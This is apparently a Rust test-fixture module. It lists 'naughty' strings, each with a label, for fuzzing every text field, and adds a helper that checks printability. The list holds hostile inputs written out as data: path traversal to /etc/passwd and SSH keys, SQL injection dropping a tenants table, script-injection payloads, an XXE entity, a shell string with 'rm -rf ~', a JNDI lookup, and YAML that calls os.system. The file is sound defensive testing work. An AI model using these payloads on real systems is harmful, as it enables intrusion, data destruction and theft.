//! Texts that have no business in a text field, for every field that takes text. They are ours, one for each way that
//! we know of in which a text hurts whoever stores, compares, shows or passes it on.

/// A text and what it is out for.
pub type Naughty = (&'static str, &'static str);

/// Texts that a line of a table can hold. [`long`] makes the others.
pub const TEXTS: &[Naughty] = &[
    // Nothing, or what looks like it.
    ("empty", ""),
    ("space", " "),
    ("spaces around", "  ring  "),
    ("no-break space", "\u{A0}"),
    (
        "every kind of space",
        "\u{1680}\u{2000}\u{2003}\u{2009}\u{202F}\u{205F}\u{3000}",
    ),
    ("tabs and newlines", "\t\n\r\n\u{B}\u{C}"),
    ("line separators", "a\u{2028}b\u{2029}c\u{85}d"),
    ("zero width", "\u{200B}\u{200C}\u{200D}\u{2060}\u{FEFF}"),
    ("soft hyphens", "go\u{AD}ld"),
    ("blank Braille", "\u{2800}\u{2800}"),
    ("Hangul fillers", "\u{115F}\u{1160}\u{3164}\u{FFA0}"),
    // Control characters.
    ("NUL", "\0"),
    ("NUL inside", "ring\0.jpg"),
    ("bell and backspace", "a\u{7}\u{8}\u{7F}"),
    ("terminal colours", "\u{1B}[31mred\u{1B}[0m"),
    ("terminal title", "\u{1B}]0;owned\u{7}"),
    ("eight-bit controls", "\u{9B}2J\u{90}x\u{9C}"),
    ("delete to the start", "ok\u{8}\u{8}no"),
    // Direction.
    ("override", "gpj.\u{202E}exe"),
    ("embeddings left open", "\u{202A}\u{202B}\u{202D}"),
    ("ends without a start", "\u{202C}\u{2069}a"),
    (
        "isolates",
        "\u{2066}a\u{2067}b\u{2068}c\u{2069}\u{2069}\u{2069}",
    ),
    ("marks", "a\u{200E}b\u{200F}c\u{61C}d"),
    ("right to left", "خاتم من ذهب 24 قيراط"),
    ("both directions", "abc שלום def"),
    // Forms of the same.
    ("decomposed", "e\u{301}te\u{301}"),
    ("compatibility", "\u{FB03}\u{2126}\u{212B}\u{FF47}\u{1D420}"),
    ("one that grows by normalising", "\u{FDFA}\u{1D160}\u{390}"),
    ("marks out of order", "a\u{315}\u{300}\u{5AE}\u{301}b"),
    ("Hangul in pieces", "\u{1100}\u{1161}\u{11A8}"),
    ("capitals of other lengths", "ŉßİıﬁΐ"),
    (
        "towers of marks",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30A}\u{30B}",
    ),
    ("a mark alone", "\u{301}"),
    ("overlaid", "g\u{338}o\u{336}l\u{20E3}d\u{20DD}"),
    // Characters that are none, or one thing for many.
    ("noncharacters", "\u{FFFE}\u{FFFF}\u{FDD0}\u{10FFFF}"),
    ("replacement", "\u{FFFD}"),
    ("private use", "\u{E000}\u{F8FF}\u{10FFFD}"),
    ("tags", "\u{E0001}\u{E0067}\u{E007F}"),
    ("selectors", "\u{FE00}\u{FE0F}\u{E0100}"),
    ("annotations", "\u{FFF9}a\u{FFFA}b\u{FFFB}"),
    ("beyond the first plane", "𝔤𝕠𝖑𝑑 🜚 𓋹 😀"),
    ("families and flags", "👨‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇪🇺 👩🏽‍🚒 1️⃣"),
    ("joiners without end", "👩‍👩‍👩‍👩‍👩‍👩‍👩‍👩‍👩‍"),
    ("conjuncts", "क्‍ष्म्य జ్ఞా ၎င်း ཧྥུྃ"),
    ("very wide", "﷽ ⸻ 𒐫"),
    // What looks like something else.
    ("Cyrillic in Latin", "gоld"),
    ("all in disguise", "gold-рох"),
    ("styled", "𝗴𝗼𝗹𝗱 ⅼⅰⅴⅇ"),
    ("full width", "ＲＩＮＧ．ｊｐｇ"),
    ("slashes that are none", "a\u{2215}b\u{2044}c\u{29F8}d"),
    ("dots that are none", "a\u{2024}\u{2024}b\u{FF0E}\u{3002}"),
    // Paths.
    ("up", "../../etc/passwd"),
    ("up, Windows", "..\\..\\boot.ini"),
    ("up, encoded", "%2e%2e%2fsecret"),
    ("up, encoded again", "%252e%252e%252fsecret"),
    ("up, overlong", "%c0%ae%c0%ae%c0%af"),
    ("up, by entities", "&#46;&#46;&#47;"),
    ("absolute", "/etc/passwd"),
    ("home", "~root/.ssh/id_rsa"),
    ("a drive", "C:\\Windows\\win.ini"),
    ("a share", "\\\\host\\share"),
    ("a stream", "ring.jpg::$DATA"),
    ("devices", "nul"),
    ("a device with an extension", "COM1.png"),
    ("a trailing dot", "ring.jpg."),
    ("a URL", "https://example.com/ring.jpg"),
    ("a file URL", "file:///etc/passwd"),
    ("a protocol of FFmpeg", "concat:a.mp4|b.mp4"),
    ("a pattern", "*?[a-z]{x,y}"),
    ("an option", "--help"),
    (
        "another tenant's",
        "tenants/zenith/video-assets/products/ring.jpg",
    ),
    // For whoever pastes text into a language.
    ("SQL", "'; DROP TABLE tenants; --"),
    ("SQL, quoted otherwise", "$$; SELECT pg_sleep(9); $$"),
    ("SQL patterns", "%_\\%\\_"),
    ("an array of PostgreSQL", "{a,\"b\",NULL}"),
    ("an escape that jsonb refuses", "\\u0000"),
    ("JSON", "{\"a\": [1, null]}"),
    ("JSON that ends too soon", "\"}]}"),
    ("a JSON pointer", "/a~1b~0c~2"),
    ("a JSON path", "$.*[?(@.x)]"),
    ("HTML", "<script>alert(1)</script>"),
    ("an attribute", "\" onmouseover=\"alert(1)"),
    ("SVG", "<svg onload=alert(1)>"),
    ("a link", "javascript:alert(1)"),
    (
        "XML",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    ),
    ("a shell", "$(touch /tmp/x) `id` | cat; rm -rf ~ && true"),
    ("variables", "${HOME} %PATH% $1"),
    ("a look-up", "${jndi:ldap://example.com/a}"),
    ("a template", "{{7*7}} <%= 7*7 %> #{7*7}"),
    ("a format", "%s%n%x {0} {:?}"),
    ("a formula", "=1+1"),
    ("a regular expression", "^(a+)+$"),
    ("YAML", "!!python/object/apply:os.system ['id']"),
    ("LDAP", "*)(uid=*))(|(uid=*"),
    ("a header", "x\r\nSet-Cookie: a=b"),
    ("an event", "x\n\nid: 1\nevent: status\ndata: {}"),
    ("a routing key", "*.video.#"),
    ("a log line", "x\n2026-01-01T00:00:00Z ERROR all is lost"),
    ("a query", "a&status=failed#b?c=d"),
    // What reads as a value.
    ("null", "null"),
    ("true", "true"),
    ("undefined", "undefined"),
    ("not a number", "NaN"),
    ("infinity", "-Infinity"),
    ("an exponent", "1e309"),
    ("a large number", "9999999999999999999999999999999999999999"),
    ("negative nought", "-0"),
    ("other bases", "0x1F 0b1 0o7 1_000"),
    ("other digits", "١٢٣ १२३"),
    ("a time", "2026-02-30T25:61:61Z"),
    ("a UUID", "00000000-0000-0000-0000-000000000000"),
    ("a prototype", "__proto__"),
    ("a constructor", "constructor"),
    ("a word of the contract", "procedural"),
    ("this word in capitals", "NONE"),
    ("only punctuation", "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~"),
];

/// Texts that are long in one way or another, in bytes, characters or parts.
pub fn long() -> Vec<(&'static str, String)> {
    vec![
        ("many letters", "a".repeat(20_000)),
        ("many wide letters", "指".repeat(10_000)),
        ("many people", "👩‍👩‍👧‍👦".repeat(2_000)),
        (
            "one letter under many marks",
            format!("z{}", "\u{489}".repeat(10_000)),
        ),
        ("one picture of many", "👩\u{200D}".repeat(5_000)),
        ("many lines", "a\n".repeat(10_000)),
        ("many parts", "a/".repeat(10_000)),
        ("much escaping", "\\\"".repeat(10_000)),
        ("many brackets", "[".repeat(10_000)),
        ("much direction", "\u{2067}".repeat(5_000)),
        ("many that grow", "\u{FDFA}".repeat(5_000)),
    ]
}

/// All of them.
pub fn all() -> Vec<(&'static str, String)> {
    let short = TEXTS.iter().map(|(name, text)| (*name, (*text).to_owned()));
    short.chain(long()).collect()
}

/// Whether a text may be printed as it is: nothing in it steers a terminal, ends a line, turns text around, or hides.
pub fn is_printable(text: &str) -> bool {
    !text.chars().any(|c| {
        c.is_control()
            || matches!(c, '\u{61C}' | '\u{200B}' | '\u{200E}'..='\u{200F}' | '\u{2028}'..='\u{202E}')
            || matches!(c, '\u{2060}'..='\u{206F}' | '\u{FEFF}' | '\u{FFF9}'..='\u{FFFC}')
            || matches!(c, '\u{E0000}'..='\u{E0FFF}' | '\u{FFFE}'..='\u{FFFF}')
    })
}
